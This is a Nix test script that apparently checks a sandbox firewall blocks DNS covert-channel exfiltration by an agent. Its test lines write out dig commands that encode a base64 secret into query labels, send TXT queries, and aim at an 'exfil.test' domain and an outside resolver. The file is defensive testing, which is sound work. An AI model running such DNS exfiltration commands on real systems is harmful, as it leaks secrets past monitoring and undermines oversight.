# DNS as a covert channel: names the agent makes up (data encoded in
# labels), TXT queries, and queries to another resolver all stay inside the
# firewall. The fake internet's resolver logs no query for them.
{ ... }:
{
  policy.cell.policy.https."*.allowed.test" = { };
  testScript = ''
    secret = "c2VjcmV0LWRhdGE"
    # Allowed wildcard: a synthetic answer, no upstream query.
    agent.succeed(f"dig +short +time=2 +tries=1 {secret}.allowed.test A | grep -E '^198[.]18[.]'")
    agent.succeed(f"dig +time=2 +tries=1 {secret}.allowed.test TXT | grep -E 'NOERROR|NXDOMAIN'")
    agent.succeed(f"dig +time=2 +tries=1 {secret}.exfil.test A | grep NXDOMAIN")
    # Another resolver directly: rejected at the firewall, fast.
    agent.fail(f"dig +time=2 +tries=1 @192.168.1.3 {secret}.exfil.test A")
    agent.fail(f"dig +tcp +time=2 +tries=1 @192.168.1.3 {secret}.exfil.test A")
    nothing_reached_internet("made-up names", secret)
  '';
}
